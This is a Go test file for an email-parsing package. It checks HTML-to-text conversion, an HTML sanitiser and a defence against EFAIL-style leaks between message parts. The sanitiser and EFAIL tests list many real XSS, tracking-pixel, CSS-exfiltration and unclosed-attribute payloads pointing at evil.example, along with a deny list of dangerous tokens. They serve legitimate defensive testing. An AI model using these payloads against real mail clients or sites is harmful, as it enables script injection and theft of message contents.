package message

import (
	"strings"
	"testing"
)

func TestHTMLToText(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"a b\n c", "a b c"},
		{"<p>a</p><p>b</p>", "a\n\nb"},
		{"<div>a</div><div>b</div>", "a\nb"},
		{"<div>a</div><div><br></div><div>b</div>", "a\n\nb"},
		{"a<br>b<br/>c", "a\nb\nc"},
		{"a<br><br>b", "a\n\nb"},
		{"<div>a<br></div><div>b</div>", "a\nb"},
		{"one <b>two</b> <i>three</i>!", "one two three!"},
		{"a&nbsp;&nbsp;b &lt;c&gt; &amp; &euro;", "a  b <c> & €"},
		{`<a href="https://x.example/p">the page</a>.`, "the page (https://x.example/p)."},
		{`<a href="https://x.example/">https://x.example</a>`, "https://x.example"},
		{`<a href="https://x.example/">www.x.example</a>`, "www.x.example"},
		{`<a href="mailto:a@b.example">a@b.example</a>`, "a@b.example"},
		{`<a href="mailto:a@b.example">write</a>`, "write (mailto:a@b.example)"},
		{`<a href="javascript:alert(1)">x</a> <a href="#top">y</a> <a>z</a>`, "x y z"},
		{`<a href="https://x.example"><img src="x"></a>`, ""},
		{`<a href="https://x.example"><img src="x" alt="Logo"></a>`, "[Logo] (https://x.example)"},
		{`<a href="https://x.example"><p>para</p></a>next`, "para (https://x.example)\n\nnext"},
		{"<ul><li>a<li>b</ul>after", "- a\n- b\n\nafter"},
		{"<ol><li>a</li><li>b</li></ol>", "1. a\n2. b"},
		{"<ol start=3><li>a</li></ol>", "3. a"},
		{"<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>", "- a\n  - b\n- c"},
		{"<ul><li><p>a</p></li><li><p>b</p></li></ul>", "- a\n\n- b"},
		{"<table><tr><td>a</td><td>b</td></tr><tr><td>c</td><td>d</td></tr></table>", "a | b\nc | d"},
		{"<table><tr><td><p>a</p></td><td><div>b</div></td></tr><tr><td><p>c</p></td><td>d</td></tr></table>", "a | b\nc | d"},
		{"<table><tr><th>Item</th><th>Price</th></tr>\n<tr>\n<td>Pen</td>\n<td></td></tr></table>x", "Item | Price\nPen\nx"},
		{"<table><tr><td>a</td><td></td><td>c</td></tr></table>", "a | c"},
		{"<table><tr><td>one<br>two</td><td>b</td></tr></table>", "one\ntwo\nb"},
		{"<blockquote>a<br>b</blockquote>c", "> a\n> b\nc"},
		{"x<blockquote><p>a</p><p>b</p><blockquote>c</blockquote></blockquote>", "x\n\n> a\n>\n> b\n>\n> > c"},
		{`<blockquote style="margin:0 0 0 40px; border:none">a</blockquote>`, "a"},
		{"<pre>a\n  b\n\nc</pre>d", "a\n  b\n\nc\nd"},
		{"<h1>T</h1>text", "T\n\ntext"},
		{"a<hr>b", "a\n---\nb"},
		{"<head><title>T</title><style>p{}</style></head><body>a<script>x<p>y</script>b</body>", "ab"},
		{`a<div style="display: none">pre<div>header</div></div>b<span hidden>c</span>d`, "abd"},
		{`a<span style="mso-hide:all">c</span>b`, "ab"},
		{"a<!-- c -->b<![if !x]>c<![endif]>", "abc"},
		{"<o:p>a</o:p>", "a"},
		{"a\u200b\u00adb", "ab"},
		{"x < y and <b", "x < y and"},
		{"", ""},
	} {
		got := HTMLToText(c.in)
		var lines []string
		for _, l := range strings.Split(got, "\n") {
			lines = append(lines, strings.TrimRight(l, " "))
		}
		if g := strings.Join(lines, "\n"); g != c.want {
			t.Errorf("%s\n got %q\nwant %q", c.in, g, c.want)
		}
	}
}

// TestM7_HTML: nothing is left in the shown HTML that runs, submits or is
// fetched from elsewhere.
func TestM7_HTML(t *testing.T) {
	for _, in := range []string{
		`<script src="https://evil.example/x.js">alert(1)</script>`,
		`<img src="https://evil.example/pixel.gif">`, `<img src='//evil.example/x'>`, `<img srcset="https://evil.example/x 2x">`, `<img src=data:image/svg+xml;base64,PHN2Zz4=>`,
		`<img src=x onerror=alert(1)>`, `<body onload=alert(1) background="https://evil.example/b">`, `<table background="https://evil.example/b"><tr><td background=https://evil.example/c>x</td></tr></table>`,
		`<div style="background:url(https://evil.example/x)">x</div>`, `<style>@import url(https://evil.example/x); p{background:url('//evil.example/y')}</style>`,
		`<link rel=stylesheet href="https://evil.example/x.css"><link rel=prefetch href=//evil.example>`, `<meta http-equiv=refresh content="0;url=https://evil.example">`, `<base href="https://evil.example/">`,
		`<form action="https://evil.example"><input name=a><button formaction="https://evil.example">x</button></form>`, `<iframe src="https://evil.example"></iframe>`, `<object data="https://evil.example"></object><embed src=https://evil.example>`,
		`<svg onload=alert(1)><image href="https://evil.example/x"/><script>alert(1)</script></svg>`, `<video src=https://evil.example/v poster=https://evil.example/p></video><audio src=//evil.example></audio>`,
		`<a href="javascript:alert(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href=" java&#x0A;script:alert(1)">x</a>`, `<a href="vbscript:x">x</a>`,
		`<input type=image src=https://evil.example/x>`, `<math><mtext><style><img src=https://evil.example/x></style></mtext></math>`, `<noscript><p title="</noscript><img src=https://evil.example/x onerror=alert(1)>"></noscript>`,
		`<img src="cid:a@b" onerror=alert(1)>`, `<img src="cid:x https://evil.example/">`, `<p style="-moz-binding:url(https://evil.example)">x</p>`, `<img src="https://evil.example/`, `<!--[if gte mso 9]><img src="https://evil.example/x"><![endif]-->`,
		`<template><img src=https://evil.example/x></template>`, `<picture><source srcset=https://evil.example/x></picture>`, `<frameset><frame src=https://evil.example></frameset>`, `<bgsound src=https://evil.example>`, `<isindex action=https://evil.example>`,
		`<p><font face="x" color="url(https://evil.example)">t</font>`, `<td width="100" height="javascript:alert(1)">`, `<a href="https://ok.example" onclick="alert(1)" style="x" ping="https://evil.example">x</a>`,
	} {
		got := strings.ToLower(sanitiseHTML(in))
		for _, bad := range []string{"evil.example", "script", "onerror", "onload", "onclick", "style", "data:", "<svg", "<form", "<input", "<meta", "<base", "<link", "<iframe", "ping="} {
			if strings.Contains(got, bad) {
				t.Errorf("%s\nleft %s", in, got)
			}
		}
	}
	for in, want := range map[string]string{
		`<img src="cid:a@b" width=10 alt="x">`:                           `<img src="cid:a@b" width="10" alt="x">`,
		`<a href="https://ok.example/x?a=1&amp;b=2" target=_blank>x</a>`: `<a href="https://ok.example/x?a=1&amp;b=2" rel="nofollow noreferrer">x</a>`,
		`<p align="center"><b>x</b></p>`:                                 `<p align="center"><b>x</b></p>`,
	} {
		if got := sanitiseHTML(in); got != want {
			t.Errorf("%s\n got %s\nwant %s", in, got, want)
		}
	}
}

// TestM8_EFAIL: a part's open attribute cannot swallow the next part.
func TestM8_EFAIL(t *testing.T) {
	m := parse(t, "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n<img src=\"https://evil.example/\n--b\nContent-Type: text/plain\n\nsecret\n--b\nContent-Type: text/html\n\n\">\n--b--\n")
	if strings.Contains(m.HTML, "evil.example") || !strings.Contains(m.HTML, "<pre>secret</pre>") {
		t.Errorf("%q", m.HTML)
	}
}

// RenderHTML makes later what NoHTML put off.
func TestNoHTML(t *testing.T) {
	mail := "Content-Type: text/html\n\n<p>a<script>x</script></p>"
	now := parse(t, mail)
	later, err := Parse(strings.NewReader(mail), Limits{NoHTML: true})
	if err != nil || later.HTML != "" || later.Text != "a" || later.RenderHTML() != now.HTML || now.HTML != "<p>a</p>" {
		t.Errorf("%v %q %q %q", err, later.HTML, later.RenderHTML(), now.HTML)
	}
}
